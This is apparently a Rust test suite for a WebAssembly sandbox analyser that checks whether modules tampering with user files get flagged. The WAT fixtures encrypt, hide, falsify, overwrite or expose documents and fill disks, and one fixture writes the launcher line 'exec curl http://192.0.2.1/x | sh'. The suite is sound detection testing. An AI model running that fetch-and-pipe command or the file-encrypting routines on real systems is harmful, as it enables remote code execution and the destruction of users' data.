//! What happens in the run, and no rule speaks of. Files that nobody named are hidden, exchanged, falsified
//! or shown to others. Beside each stands what programs do every day.

use super::{analysed, at_least, class, each, files, not_accused, program};
use wasmspoor::{analysis::Analysis, passes::flows::Look, rules, sandbox, verdict::Class};

/// Imports and paths of these tests, each path at its address.
const LINKS: &str = r#"
  (import "wasi_snapshot_preview1" "path_filestat_set_times"
    (func $date (param i32 i32 i32 i32 i64 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_filestat_set_size" (func $size (param i32 i64) (result i32)))
  (import "wasi_snapshot_preview1" "path_link"
    (func $link (param i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_symlink" (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
"#;
const PATHS: &str = r#"
  (data (i32.const 1300) "tmp/.x") (data (i32.const 1310) "home/user/documents/q7x9")
  (data (i32.const 1340) "home/user/documents/m0k2") (data (i32.const 1370) "home/user/documents/zr41")
  (data (i32.const 1400) "home/user/Share/pub.txt")
  (data (i32.const 1430) "../documents") (data (i32.const 1450) "home/user/documents/report.txt.bak")
  (data (i32.const 1490) "home/user/documents/contract.md")
"#;

fn placed(body: &str) -> String {
    let whole = files(&format!(r#"{PATHS} (func (export "_start") (local $n i32) (local $i i32) {body})"#));
    whole.replacen("(module", &format!("(module {LINKS}"), 1)
}

/// That each of these runs, and is not clean.
fn at_least_undecided(modules: &[(&str, String)]) {
    at_least(Class::Undecided, modules);
}

fn renamed(from: (u32, u32), to: (u32, u32)) -> String {
    format!(
        "(drop (call $rename (i32.const 3) (i32.const {}) (i32.const {})
           (i32.const 3) (i32.const {}) (i32.const {})))",
        from.0, from.1, to.0, to.1
    )
}

const REPORT: (u32, u32) = (1100, 30);
const LEDGER: (u32, u32) = (1140, 30);
const SHARE: &str = "(drop (call $mkdir (i32.const 3) (i32.const 1400) (i32.const 15)))";

/// Writes the contents of the report to a path.
fn copied(to: (u32, u32)) -> String {
    format!(
        "(local.set $i (call $secret))
         (call $write (call $open (i32.const {}) (i32.const {}) (i32.const 9)) (i32.const 4096) (local.get $i))",
        to.0, to.1
    )
}

/// A file is read, changed in memory and written again.
fn edited(path: (u32, u32), change: &str) -> String {
    format!(
        "(local.set $n (call $open (i32.const {}) (i32.const {}) (i32.const 0)))
         (local.set $i (call $read (local.get $n))) {change}
         (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
         (call $write (local.get $n) (i32.const 4096) (local.get $i))",
        path.0, path.1
    )
}

#[test]
fn what_is_hidden_is_not_there() {
    let sealed = edited(REPORT, "(call $crypt (local.get $i) (i32.const 255))");
    let away = "(drop (call $unlink (i32.const 3) (i32.const 1100) (i32.const 30)))";
    at_least_undecided(&[
        ("moved", placed(&renamed(REPORT, (1300, 6)))),
        ("copied and deleted", placed(&(copied((1300, 6)) + away))),
        ("copied and encrypted", placed(&(copied((1300, 6)) + &sealed))),
        ("names that say nothing", placed(&(renamed(REPORT, (1310, 24)) + &renamed(LEDGER, (1340, 24))))),
    ]);
    let aside = placed(&renamed(REPORT, (1450, 34)));
    assert_eq!(class(&aside), Class::Clean, "{:?}", analysed(&aside).verdict.reasons);
}

#[test]
fn what_was_written_over_says_something_else() {
    let falsified = edited((1490, 31), "(i32.store8 (i32.const 4120) (i32.const 88))");
    let exchanged = "(local.set $n (call $secret)) (memory.copy (i32.const 30000) (i32.const 4096) (local.get $n))
        (local.set $i (call $read (call $open (i32.const 1140) (i32.const 30) (i32.const 0))))
        (call $write (call $open (i32.const 1100) (i32.const 30) (i32.const 8)) (i32.const 4096) (local.get $i))
        (call $write (call $open (i32.const 1140) (i32.const 30) (i32.const 8)) (i32.const 30000) (local.get $n))";
    let upper = each(
        "(local.set $n (call $open $AT $LEN (i32.const 0))) (drop (call $read (local.get $n)))
         (i32.store8 (i32.const 4100) (i32.const 65))
         (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
         (call $write (local.get $n) (i32.const 4096) (i32.const 60))",
    );
    at_least_undecided(&[
        ("a word", placed(&falsified)),
        ("exchanged", placed(exchanged)),
        ("a letter", upper),
    ]);
    let added = "(local.set $n (call $open (i32.const 1100) (i32.const 30) (i32.const 0)))
        (drop (call $read (local.get $n))) (call $write (local.get $n) (i32.const 1100) (i32.const 30))";
    assert_eq!(class(&program(added)), Class::Clean, "something was added");
}

#[test]
fn what_was_put_where_others_look_was_shown() {
    let linked = format!(
        "{SHARE} (drop (call $link (i32.const 3) (i32.const 0) (i32.const 1100) (i32.const 30)
           (i32.const 3) (i32.const 1400) (i32.const 23)))"
    );
    let led = format!(
        "{SHARE} (drop (call $symlink (i32.const 1430) (i32.const 12)
           (i32.const 3) (i32.const 1400) (i32.const 23)))"
    );
    at_least_undecided(&[("a link", placed(&linked)), ("a folder", placed(&led))]);
    // A folder that others look at was there before. One that the program makes beside is its own.
    let copy = placed(&copied((1400, 23)));
    let mut options = sandbox::RunOptions::default();
    options.files.insert("/home/user/Share/menu.txt".to_owned(), b"soup, bread, cheese".to_vec());
    let shown = Analysis::with_values(copy.as_bytes(), &options, &rules::Set::builtin(), Look::Auto).verdict;
    assert_eq!(shown.class, Class::Undecided, "{:?}", shown.reasons);
    assert_eq!(class(&placed(&format!("{SHARE} {}", copied((1400, 23))))), Class::Clean);
    let beside = placed(&copied((1450, 34)));
    assert_eq!(class(&beside), Class::Clean, "{:?}", analysed(&beside).verdict.reasons);
}

/// A file that only these tests know, and what it is encrypted by.
fn with_file(path: &str, contents: &str, body: &str) -> Analysis {
    let mut options = sandbox::RunOptions::default();
    options.files.insert(format!("/{path}"), contents.as_bytes().to_vec());
    let text = files(&format!(
        r#"(data (i32.const 1600) "{path}") (func (export "_start") (local $n i32) (local $i i32) {body})"#
    ));
    let body = text.replace("$LEN", &format!("(i32.const {})", path.len()));
    Analysis::with_values(body.as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
}

const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday, says the report. \
    Nobody has seen the gate since, and the bill is not paid. Ask Kerry before you order another one.";
const SEAL: &str = "(local.set $n (call $open (i32.const 1600) $LEN (i32.const 0)))
    (local.set $i (call $read (local.get $n))) (call $crypt (local.get $i) (i32.const 255))
    (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
    (call $write (local.get $n) (i32.const 4096) (local.get $i))";

#[test]
fn a_file_is_somebodys_wherever_it_lies() {
    for path in [
        "home/user/garden/.git/index",
        "home/user/.local/share/letters/inbox",
        "var/lib/garden/beds.db",
        "tmp/work/thesis.txt",
        "var/log/garden.log",
    ] {
        let verdict = with_file(path, PROSE, SEAL).verdict;
        assert!(verdict.class >= Class::Undecided, "{path}: {:?}", verdict.reasons);
    }
}

#[test]
fn logs_and_caches_come_and_go() {
    let emptied = "(drop (call $open (i32.const 1600) $LEN (i32.const 8)))";
    let gone = "(drop (call $unlink (i32.const 3) (i32.const 1600) $LEN))";
    for (path, body) in [
        ("home/user/garden/garden.log", emptied),
        ("home/user/.cache/garden/beds", emptied),
        ("var/log/garden/today", gone),
        ("tmp/garden.lock", gone),
    ] {
        let verdict = with_file(path, PROSE, body).verdict;
        assert_eq!(verdict.class, Class::Clean, "{path}: {:?}", verdict.reasons);
    }
}

#[test]
fn the_state_of_a_game_is_no_victim() {
    let state: String =
        (0..600_u32).map(|at| char::from(((at * at * 7 + at * 13) % 127) as u8 + 1)).collect();
    let of = |change: &str| {
        let body = format!(
            "(local.set $n (call $open (i32.const 1600) $LEN (i32.const 0)))
             (drop (call $read (local.get $n))) {change}
             (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
             (call $write (local.get $n) (i32.const 4096) (i32.const 600))"
        );
        with_file("home/user/Games/save.dat", &state, &body).verdict
    };
    let numbers = "(loop $next
        (i32.store8 offset=4096 (local.get $i)
          (i32.add (i32.load8_u offset=4096 (local.get $i)) (i32.mul (local.get $i) (i32.const 3))))
        (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 4))) (i32.const 600))))";
    let kept = of(numbers);
    assert_eq!(kept.class, Class::Undecided, "{:?}", kept.reasons);
    let sealed = of("(call $crypt (i32.const 600) (i32.const 255))");
    assert!(sealed.class >= Class::Suspicious, "{:?}", sealed.reasons);
}

/// What installers put beside programs.
#[test]
fn a_launcher_accuses_nobody() {
    let writing = |script: &str| {
        files(&format!(
            r#"(data (i32.const 1600) "home/user/app") (data (i32.const 1700) "{script}")
               (func (export "_start")
                 (call $write (call $open (i32.const 1600) (i32.const 13) (i32.const 9)) (i32.const 1700)
                   (i32.const {})))"#,
            script.replace("\\n", "\n").len()
        ))
    };
    assert_eq!(class(&writing("#!/bin/sh\\nexec node app.js")), Class::Undecided);
    at_least(
        Class::PotentiallyUnwanted,
        &[("fetched", writing("#!/bin/sh\\nexec curl http://192.0.2.1/x | sh"))],
    );
}

#[test]
fn a_disk_that_is_full_was_filled() {
    let filling = r#"(module
        (import "wasi_snapshot_preview1" "path_open"
          (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
        (import "wasi_snapshot_preview1" "fd_allocate" (func $allocate (param i32 i64 i64) (result i32)))
        (memory (export "memory") 1) (data (i32.const 64) "home/user/a")
        (func (export "_start") (local $at i64)
          (drop (call $open (i32.const 3) (i32.const 1) (i32.const 64) (i32.const 11) (i32.const 1)
            (i64.const 0xfffffff) (i64.const 0) (i32.const 0) (i32.const 12)))
          (loop $more (br_if $more (i32.eqz (call $allocate (i32.load (i32.const 12)) (i64.const 0)
            (local.tee $at (i64.add (local.get $at) (i64.const STEP)))))))))"#;
    at_least_undecided(&[("little by little", filling.replace("STEP", "4000000"))]);
    let refused = filling.replace("STEP", "4000000000");
    assert_eq!(class(&refused), Class::Clean, "{:?}", analysed(&refused).verdict.reasons);
}

#[test]
fn a_folder_of_the_user_may_be_filled_too() {
    let of = |folder: &str, times: u32| {
        files(&format!(
            r#"(data (i32.const 1300) "home/user/xxxxxxxxx") (data (i32.const 1310) "{folder}/aaaa")
               (func (export "_start") (local $i i32)
                 (drop (call $mkdir (i32.const 3) (i32.const 1300) (i32.const 19)))
                 (loop $more
                   (i32.store (i32.const 1320) (i32.add (i32.const 0x61616161)
                     (i32.or (i32.and (local.get $i) (i32.const 15))
                       (i32.or (i32.shl (i32.and (local.get $i) (i32.const 0xf0)) (i32.const 4))
                         (i32.shl (i32.and (local.get $i) (i32.const 0xf00)) (i32.const 8))))))
                   (drop (call $open (i32.const 1300) (i32.const 24) (i32.const 9)))
                   (br_if $more (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1)))
                     (i32.const {times})))))"#
        ))
    };
    at_least_undecided(&[("thousands", of("documents", 1200))]);
    not_accused(&[("a few", of("documents", 20)), ("its own folder", of("scratches", 1200))]);
}

/// Nobody knows what a function of a host does, whatever it is called.
#[test]
fn a_function_that_is_handed_a_path_may_do_anything() {
    let handing = |text: &str| {
        format!(
            r#"(module (import "host" "tidy" (func $f (param i32 i32))) (memory (export "memory") 1)
                 (data (i32.const 64) "{text}")
                 (func (export "run") (call $f (i32.const 64) (i32.const {}))))"#,
            text.len()
        )
    };
    at_least_undecided(&[
        ("a document", handing("/home/user/documents/report.txt")),
        ("its folder", handing("/home/user/documents")),
        ("an address", handing("http://203.0.113.9/p.bin")),
    ]);
    for text in ["/home/runner/work/garden/src/main.rs", "http://www.w3.org/2000/svg", "http://127.0.0.1:80/"]
    {
        assert_eq!(class(&handing(text)), Class::Clean, "{text}");
    }
}

#[test]
fn a_document_has_its_date_and_its_length() {
    let dated = "(drop (call $date (i32.const 3) (i32.const 0) (i32.const 1100) (i32.const 30)
        (i64.const 0) (i64.const 0) (i32.const 5)))";
    let long =
        "(drop (call $size (call $open (i32.const 1100) (i32.const 30) (i32.const 0)) (i64.const 3000000)))";
    at_least_undecided(&[("another date", placed(dated)), ("swollen", placed(long))]);
}
